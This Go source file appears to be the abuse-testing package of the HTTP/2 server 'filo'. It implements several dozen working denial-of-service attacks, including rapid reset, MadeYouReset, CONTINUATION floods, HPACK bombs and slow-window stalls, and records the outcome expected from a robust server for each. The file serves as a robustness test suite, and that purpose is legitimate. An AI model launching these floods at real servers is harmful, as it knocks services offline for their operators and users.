package abuse

import (
	"encoding/binary"
	"slices"
	"strings"
	"time"

	"github.com/filohttp/filo/internal/http2"
)

// Attacks request these paths.
const (
	pathQuick  = "/quick"
	pathLarge  = "/large"
	pathWait5  = "/wait5ms"
	pathWait1s = "/wait1s"
	pathBody   = "/body"
	pathStream = "/stream"
	pathFile   = "/file"
)

const (
	get  = "GET"
	post = "POST"
)

const (
	// many is how many streams an attack keeps open on a connection: a number that all servers allow.
	many = 100
	// unlimited lets an attack open streams without waiting for earlier streams to end.
	unlimited = 1 << 30
)

// head returns the field block of a request, which neither uses nor changes HPACK's dynamic table.
func (c *conn) head(method, path string) []byte {
	b := appendField(nil, ":method", method)
	b = appendField(b, ":scheme", c.scheme)
	b = appendField(b, ":path", path)
	return appendField(b, ":authority", c.host)
}

// rounds appends the frames of one round of a flood. id is 1 in the first round, 3 in the next and so on, so it can be the number of a new stream.
type rounds func(b []byte, id uint32) []byte

// flood returns an attack that sends rounds as fast as the server reads them.
func flood(begin func(c *conn) rounds) func(*conn) {
	return func(c *conn) {
		round := begin(c)
		var b []byte
		for id := uint32(1); id < 1<<31-1; b = b[:0] {
			for ; len(b) < 4<<10; id += 2 {
				b = round(b, id)
			}
			if !c.send(b) {
				return
			}
		}
	}
}

// each returns a flood of requests. After each request, misuse appends frames that misuse its stream.
func each(method, path, more string, endStream bool, misuse rounds) func(*conn) {
	return flood(func(c *conn) rounds {
		block := append(c.head(method, path), more...)
		return func(b []byte, id uint32) []byte { return misuse(appendHeaders(b, id, block, endStream), id) }
	})
}

// always returns a flood that repeats the same frames.
func always(frames []byte) func(*conn) {
	return flood(func(*conn) rounds { return func(b []byte, _ uint32) []byte { return append(b, frames...) } })
}

// onFirst returns a flood on stream 1, after a request whose body never arrives.
func onFirst(round rounds) func(*conn) {
	return flood(func(c *conn) rounds {
		block := c.head(post, pathBody)
		return func(b []byte, id uint32) []byte {
			if id == 1 {
				b = appendHeaders(b, 1, block, false)
			}
			return round(b, 1)
		}
	})
}

// continued returns a flood of CONTINUATION frames. The field block starts in HEADERS, with a request's fields and the bytes of begin. Each
// CONTINUATION after that holds the bytes of piece.
func continued(begin, piece string) func(*conn) {
	return flood(func(c *conn) rounds {
		c.mute()
		block := append(c.head(get, pathQuick), begin...)
		return func(b []byte, id uint32) []byte {
			if id == 1 {
				b = frame(b, http2.FrameHeaders, http2.FlagEndStream, 1, string(block))
			}
			return frame(b, http2.FrameContinuation, 0, 1, piece)
		}
	})
}

// bomb returns an attack that opens requests and keeps them open. Each head repeats one field 15,000 times, and index encodes the field in a
// single byte. If first isn't "", the field is not in the static table: one earlier request adds it to the dynamic table.
func bomb(first string, index byte) func(*conn) {
	return func(c *conn) {
		block := c.head(post, pathBody)
		bomb := append(slices.Clone(block), strings.Repeat(string([]byte{index}), 15_000)...)
		if first != "" {
			if _, ok := c.request(many, append(block, first...), false); !ok {
				return
			}
		}
		for {
			if _, ok := c.request(many, bomb, false); !ok {
				return
			}
		}
	}
}

// newest refers to the newest entry of the dynamic table (RFC 7541, sections 2.3.3 and 6.1).
const newest = 0x80 | 62

// emptyCookie refers to the static table's entry for an empty cookie (RFC 7541, appendix A).
const emptyCookie = 0x80 | 32

// running returns an attack that resets streams while their handlers run.
func running(path string) func(*conn) {
	return func(c *conn) {
		for c.openMany(get, path, "", true) && c.sleep(2*time.Millisecond) {
			var b []byte
			for _, id := range c.open() {
				b = http2.AppendReset(b, id, http2.Cancel)
			}
			c.forget()
			if !c.send(b) {
				return
			}
		}
	}
}

// openMany opens many streams, and returns false once sending is impossible.
func (c *conn) openMany(method, path, more string, endStream bool) bool {
	block := append(c.head(method, path), more...)
	for range many {
		if _, ok := c.request(unlimited, block, endStream); !ok {
			return false
		}
	}
	return true
}

// takes returns an attack that opens many streams and keeps them open. At intervals, it sends the frames that the function next appends for
// each stream.
func takes(method, path, more string, endStream bool, every time.Duration, next rounds) func(*conn) {
	return func(c *conn) {
		if c.openMany(method, path, more, endStream) {
			c.hold(every, next)
		}
	}
}

func nothing(b []byte, _ uint32) []byte { return b }

// byteOfWindow appends a WINDOW_UPDATE that lets the server send another byte on a stream.
func byteOfWindow(b []byte, id uint32) []byte { return http2.AppendWindowUpdate(b, id, 1) }

// byteOfBody appends DATA with another byte of a request's body.
func byteOfBody(b []byte, id uint32) []byte { return frame(b, http2.FrameData, 0, id, "a") }

// slowBlock sends a head that never ends: each second it sends a CONTINUATION of one byte.
func slowBlock(c *conn) {
	ok := c.mute() && c.send(frame(nil, http2.FrameHeaders, http2.FlagEndStream, 1, string(c.head(get, pathQuick))+openValue))
	for ok {
		ok = c.send(frame(nil, http2.FrameContinuation, 0, 1, "a")) && c.sleep(time.Second)
	}
}

// slowFrameLen is the announced length of slowFrame's frame, more bytes than slowFrame sends in an hour.
const slowFrameLen = 10_000

// slowFrame sends a HEADERS frame that never ends, one byte each second.
func slowFrame(c *conn) {
	b := http2.AppendFrameHeader(nil, slowFrameLen, http2.FrameHeaders, http2.FlagEndHeaders|http2.FlagEndStream, 1)
	ok := c.mute() && c.sendPart(append(append(b, c.head(get, pathQuick)...), openValue...), 1)
	for ok {
		ok = c.sendPart([]byte("a"), 0) && c.sleep(time.Second)
	}
}

// changing returns an attack that sends the settings in turn, over and over. If requests is true, it sends a request after each SETTINGS, and
// leaves at most 50 of them unanswered.
func changing(requests bool, settings ...setting) func(*conn) {
	return func(c *conn) {
		block := c.head(get, pathQuick)
		for {
			for _, s := range settings {
				if !c.send(appendSettings(nil, s)) {
					return
				}
				if requests {
					if _, ok := c.request(many/2, block, true); !ok {
						return
					}
				}
			}
		}
	}
}

// unread requests large answers and never reads them. It sends a PING at intervals, because only a failed write shows an attacker who never
// reads that the connection has ended.
func unread(c *conn) {
	shrinkReadBuffer(c.nc)
	c.send(http2.AppendWindowUpdate(nil, 0, 1<<30))
	ok := c.openMany(get, pathLarge, "", true)
	for ok {
		ok = c.sleep(200*time.Millisecond) && c.send(http2.AppendPing(nil, 0, [8]byte{}))
	}
}

// politely returns a client that sends requests at intervals. The argument more is appended to each field block.
func politely(more string, interval time.Duration) func(*conn) {
	return func(c *conn) {
		block := append(c.head(get, pathQuick), more...)
		for {
			if _, ok := c.request(10, block, true); !ok || !c.sleep(interval) {
				return
			}
		}
	}
}

func frame(b []byte, kind http2.FrameType, flags http2.Flags, id uint32, payload string) []byte {
	return append(http2.AppendFrameHeader(b, len(payload), kind, flags, id), payload...)
}

func uint32Of(v uint32) string { return string(binary.BigEndian.AppendUint32(nil, v)) }

// openValue begins a field with a value of 1,000 bytes. At one byte each second, the value takes a quarter of an hour.
var openValue = string(appendLength([]byte("\x00\x01x"), 1000))

// oneByteField is a whole field in one byte: "accept-encoding: gzip, deflate" of the static table (RFC 7541, appendix A).
const oneByteField = "\x90"

// fieldOf16KB is a field that fills a frame.
var fieldOf16KB = string(appendField(nil, "x", strings.Repeat("a", 16_000)))

// crumbs are 90 cookies, each in a separate field, as a browser may send them (RFC 9113, section 8.2.3).
var crumbs = strings.Repeat(string(appendField(nil, "cookie", "session=0123456789abcdef")), 90)

// length returns a content-length field, encoded for a field block.
func length(n string) string { return string(appendField(nil, "content-length", n)) }

const megabytes = 1 << 20

// Attacks returns all attacks. The caller may change them.
func Attacks() []*Attack {
	window0 := manner{settings: []setting{{initialWindowSize, 0}}}
	ping := http2.AppendPing(nil, 0, [8]byte{})
	list := []*Attack{
		{Name: "rapid-reset", About: "requests that are reset at once, CVE-2023-44487",
			run: each(get, pathQuick, "", true, func(b []byte, id uint32) []byte { return http2.AppendReset(b, id, http2.Cancel) })},

		// These attacks make the server reset the streams: MadeYouReset, CVE-2025-8671.
		{Name: "made-you-reset-window-0", About: "WINDOW_UPDATE of 0 on each stream, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte { return http2.AppendWindowUpdate(b, id, 0) })},
		{Name: "made-you-reset-window-over", About: "a window over 2^31-1 on each stream, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte { return http2.AppendWindowUpdate(b, id, 1<<31-1) })},
		{Name: "made-you-reset-data", About: "DATA behind END_STREAM, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte { return frame(b, http2.FrameData, 0, id, "a") })},
		{Name: "made-you-reset-headers", About: "HEADERS behind END_STREAM, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte {
				return appendHeaders(b, id, appendField(nil, "x", "a"), true)
			})},
		{Name: "made-you-reset-trailers", About: "trailers that don't end the stream, CVE-2025-8671",
			run: each(post, pathBody, "", false, func(b []byte, id uint32) []byte {
				return appendHeaders(b, id, appendField(nil, "x", "a"), false)
			})},
		{Name: "made-you-reset-priority-length", About: "PRIORITY of 4 bytes on each stream, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte {
				return frame(b, http2.FramePriority, 0, id, uint32Of(0))
			})},
		{Name: "made-you-reset-priority-self", About: "streams that are made to depend on themselves, CVE-2025-8671",
			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte {
				return frame(b, http2.FramePriority, 0, id, uint32Of(id)+"\x00")
			})},
		{Name: "made-you-reset-headers-self", About: "requests that depend on themselves, CVE-2025-8671",
			run: flood(func(c *conn) rounds {
				block := string(c.head(get, pathWait5))
				return func(b []byte, id uint32) []byte {
					const flags = http2.FlagEndHeaders | http2.FlagEndStream | http2.FlagPriority
					return frame(b, http2.FrameHeaders, flags, id, uint32Of(id)+"\x00"+block)
				}
			})},
		{Name: "made-you-reset-length", About: "DATA beyond Content-Length, CVE-2025-8671",
			run: each(post, pathBody, length("1"), false, func(b []byte, id uint32) []byte { return frame(b, http2.FrameData, 0, id, "ab") })},
		{Name: "made-you-reset-malformed", About: "malformed requests, CVE-2025-8671",
			run: each(get, pathWait5, string(appendField(nil, "X", "a")), true, nothing)},

		{Name: "reset-then-data", About: "DATA behind the client's own RST_STREAM", run: each(post, pathBody, "", false,
			func(b []byte, id uint32) []byte {
				return frame(http2.AppendReset(b, id, http2.Cancel), http2.FrameData, 0, id, "a")
			})},
		{Name: "running-5ms", About: "requests that are reset while their handlers run, 5 ms each", run: running(pathWait5)},
		{Name: "running-1s", About: "requests that are reset while their handlers run, a second each", run: running(pathWait1s)},
		{Name: "over-limit", About: "far more open streams than the server allows", run: each(post, pathBody, "", false, nothing)},
		{Name: "over-limit-unacked", About: "the same by a client that doesn't acknowledge the limit", Want: TimesOut,
			manner: manner{unacked: true}, run: each(post, pathBody, "", false, nothing)},

		{Name: "continuation", About: "a head of 16 KB in each of endless CONTINUATIONs, CVE-2024-27316", run: continued("", fieldOf16KB)},
		{Name: "continuation-bytes", About: "a field in each of endless CONTINUATIONs of one byte", run: continued("", oneByteField)},
		{Name: "continuation-empty", About: "endless empty CONTINUATIONs, CVE-2019-9518", run: continued("", "")},
		{Name: "hpack-bomb", About: "60 MB of fields in 15 KB, CVE-2016-6581", Want: Bounded,
			run: bomb(string(appendIndexed(nil, "x", strings.Repeat("a", 4000))), newest)},
		{Name: "cookie-bomb", About: "60 MB of a cookie's crumbs in 15 KB", Want: Bounded,
			run: bomb(string(appendIndexed(nil, "cookie", strings.Repeat("a", 4000))), newest)},
		{Name: "cookie-crumbs", About: "15,000 empty crumbs of a cookie", Want: Bounded, run: bomb("", emptyCookie)},
		{Name: "cookie-90", About: "a browser with 90 cookies: no attack", Want: Served, run: politely(crumbs, 5*time.Millisecond)},

		{Name: "ping", About: "CVE-2019-9512", run: always(ping)},
		{Name: "ping-ack", About: "answers that nobody has asked for", run: always(http2.AppendPing(nil, http2.FlagAck, [8]byte{}))},
		{Name: "ping-unread", About: "PING whose answers are never read, CVE-2019-9512", Want: TimesOut, manner: manner{unread: true},
			run: always(ping)},
		{Name: "settings", About: "CVE-2019-9515", run: always(appendSettings(nil))},
		{Name: "settings-full", About: "2,730 entries in each SETTINGS",
			run: always(appendSettings(nil, slices.Repeat([]setting{{initialWindowSize, http2.DefaultWindow}}, 2730)...))},
		{Name: "settings-ack", About: "acknowledgements of nothing", run: always(http2.AppendSettingsAck(nil))},
		{Name: "settings-unread", About: "SETTINGS whose answers are never read, CVE-2019-9515", Want: TimesOut, manner: manner{unread: true},
			run: always(appendSettings(nil))},
		{Name: "settings-window", About: "windows of 100 streams go up and down", manner: window0, run: func(c *conn) {
			if c.openMany(get, pathLarge, "", true) {
				changing(false, setting{initialWindowSize, 1}, setting{initialWindowSize, 0})(c)
			}
		}},
		{Name: "settings-table", About: "HPACK's table goes up and down, with requests in between",
			run: changing(true, setting{headerTableSize, 0}, setting{headerTableSize, http2.DefaultHeaderTableSize})},
		{Name: "priority", About: "PRIORITY of one stream, CVE-2019-9513",
			run: onFirst(func(b []byte, id uint32) []byte { return frame(b, http2.FramePriority, 0, id, uint32Of(id+2)+"\x01") })},
		{Name: "priority-idle", About: "PRIORITY of ever new idle streams", run: flood(func(*conn) rounds {
			return func(b []byte, id uint32) []byte { return frame(b, http2.FramePriority, 0, id, uint32Of(0)+"\x00") }
		})},
		{Name: "priority-update", About: "PRIORITY_UPDATE of ever new idle streams", run: flood(func(*conn) rounds {
			return func(b []byte, id uint32) []byte { return frame(b, http2.FramePriorityUpdate, 0, 0, uint32Of(id)+"u=1") }
		})},
		{Name: "empty-data", About: "CVE-2019-9518",
			run: onFirst(func(b []byte, id uint32) []byte { return frame(b, http2.FrameData, 0, id, "") })},
		{Name: "padding", About: "DATA of nothing but padding",
			run: onFirst(func(b []byte, id uint32) []byte { return frame(b, http2.FrameData, http2.FlagPadded, id, "\x00") })},
		{Name: "unknown", About: "frames of an unknown type", run: always(frame(nil, 0xaa, 0, 0, ""))},
		{Name: "goaway", About: "GOAWAY again and again",
			run: onFirst(func(b []byte, _ uint32) []byte { return http2.AppendGoAway(b, 0, http2.NoError, "") })},
		{Name: "window-update", About: "the connection's window, byte by byte", run: always(http2.AppendWindowUpdate(nil, 0, 1))},
		{Name: "window-update-stream", About: "a stream's window, byte by byte", run: onFirst(byteOfWindow)},
		{Name: "window-update-closed", About: "the window of a stream that is over", run: flood(func(c *conn) rounds {
			block := c.head(get, pathQuick)
			return func(b []byte, id uint32) []byte {
				if id == 1 {
					b = http2.AppendReset(appendHeaders(b, 1, block, true), 1, http2.Cancel)
				}
				return http2.AppendWindowUpdate(b, 1, 5000)
			}
		})},

		{Name: "window-zero", About: "large answers without a window, CVE-2019-9517", Want: TimesOut, Conns: 10, manner: window0,
			run: takes(get, pathLarge, "", true, time.Second, nothing)},
		{Name: "window-shut", About: "large answers, of which 64 KB are taken in all", Want: TimesOut, Conns: 10,
			manner: manner{settings: []setting{{initialWindowSize, 1<<31 - 1}}, stingy: true},
			run:    takes(get, pathLarge, "", true, time.Second, nothing)},
		{Name: "window-slow", About: "large answers, a byte each second", Want: TimesOut, Conns: 10, manner: window0,
			run: takes(get, pathLarge, "", true, time.Second, byteOfWindow)},
		{Name: "window-dribble", About: "large answers byte by byte, at full speed, CVE-2019-9511", manner: window0,
			run: takes(get, pathLarge, "", true, 0, byteOfWindow)},
		{Name: "unread", About: "large answers that are never read, CVE-2019-9517", Want: TimesOut, Conns: 10,
			manner: manner{settings: []setting{{initialWindowSize, 1<<31 - 1}}, unread: true}, run: unread},
		{Name: "requests-unread", About: "endless requests whose small answers are never read", Want: TimesOut, manner: manner{unread: true},
			run: each(get, pathQuick, "", true, nothing)},

		// filo allows 128 streams for each connection. A server that reads 256 KB of each answer ahead of its closed window would hold 32 MB for
		// each connection.
		{Name: "window-zero-files", About: "large files without a window, by 40 connections", Want: TimesOut, Conns: 40, manner: window0,
			run: takes(get, pathFile, "", true, time.Second, nothing)},
		{Name: "bomb-held", About: "heads that HPACK makes large, whose answers wait for a byte of window each second: the HTTP/2 bomb", Want: TimesOut,
			Conns: 500, Growth: 512 * megabytes, manner: window0, run: func(c *conn) {
				block := c.head(get, pathLarge)
				if _, ok := c.request(many, append(block, appendIndexed(nil, "x", strings.Repeat("a", 4000))...), true); ok &&
					c.openMany(get, pathLarge, string([]byte{newest, newest}), true) {
					c.hold(time.Second, byteOfWindow)
				}
			}},

		{Name: "bodies-held", About: "100 bodies on one connection of which 64 KB come and then nothing: places", Want: TimesOut,
			run: takes(post, pathBody, length("65537"), false, 10*time.Millisecond, filling(640, 100))},
		{Name: "slow-body", About: "bodies of a byte each second, 100 on each connection", Want: TimesOut, Conns: 4,
			run: takes(post, pathBody, length("1000000"), false, time.Second, byteOfBody)},
		{Name: "slow-block", About: "heads of a CONTINUATION of one byte each second", Want: TimesOut, Conns: many, run: slowBlock},
		{Name: "slow-frame", About: "HEADERS of a byte each second", Want: TimesOut, Conns: many, run: slowFrame},
		// Growth allows 10 KB for each request.
		{Name: "half-open", About: "100,000 requests whose bodies never come", Want: TimesOut, Conns: 1000, Growth: 1024 * megabytes,
			run: takes(post, pathBody, length("1000000"), false, time.Second, nothing)},
		{Name: "unacked", About: "the server's SETTINGS are never acknowledged", Want: TimesOut, manner: manner{unacked: true},
			run: politely("", 200*time.Millisecond)},
	}
	list = append(list, plainAttacks()...)
	for _, a := range list {
		a.Conns = max(a.Conns, 1)
		if a.Growth == 0 {
			a.Growth = 128 * megabytes
		}
	}
	return list
}
